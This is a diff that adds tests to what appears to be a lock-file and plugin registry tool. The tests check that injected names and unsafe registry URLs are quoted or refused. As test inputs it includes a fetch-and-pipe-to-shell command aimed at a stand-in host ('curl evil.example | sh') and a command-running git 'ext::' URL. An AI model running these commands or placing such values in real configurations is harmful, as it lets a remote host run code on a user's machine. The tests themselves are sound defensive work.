@@ -62,3 +62,37 @@ test("an earlier head in the lock file does not lower what a server has accepted
   const [{ trust }] = (await done(servers.second, "registry", "list", "--json")).json;
   expect(trust.sequence).toBe(2);
 });
+
+/** What a terminal's user would paste, or take for advice of the program. */
+const ADVICE = "x; curl evil.example | sh";
+
+test("its texts pass for no words or commands of the program: the name of a registry, and that of a secret", async () => {
+  const lock = await locked();
+  await changeLock(lock, (set) => {
+    set.registries[ADVICE] = { ...set.registries.Mine, fingerprint: OTHER };
+    set.plugins.echo.registry = ADVICE;
+    delete set.registries.Mine;
+  });
+  const [, said = ""] = (await refusal(lock)).split(/^error: /m);
+  expect(said).toContain(`"${ADVICE}"`);
+  expect(said.replaceAll(`"${ADVICE}"`, "")).not.toContain("curl");
+  await changeLock(lock, (set) => {
+    set.plugins.echo.secrets = [ADVICE];
+  });
+  const { code, err: usage } = await servers.second.run("sync", lock, "--yes");
+  expect([code, usage]).toEqual([2, expect.stringContaining("is no lock file: /plugins/echo/secrets/0")]);
+});
+
+test("an address that no registry can have is refused in the plan, and nothing is read from it", async () => {
+  const lock = await locked();
+  for (const [provider, url] of [
+    ["cdn", "file:///etc"],
+    ["cdn", "no address"],
+    ["git", "ext::touch /tmp/ran"],
+  ]) {
+    await changeLock(lock, ({ registries }) => {
+      registries.Mine = { provider, url };
+    });
+    expect(await refusal(lock), url).toMatch(/^error: .*\burl\b/m);
+  }
+});
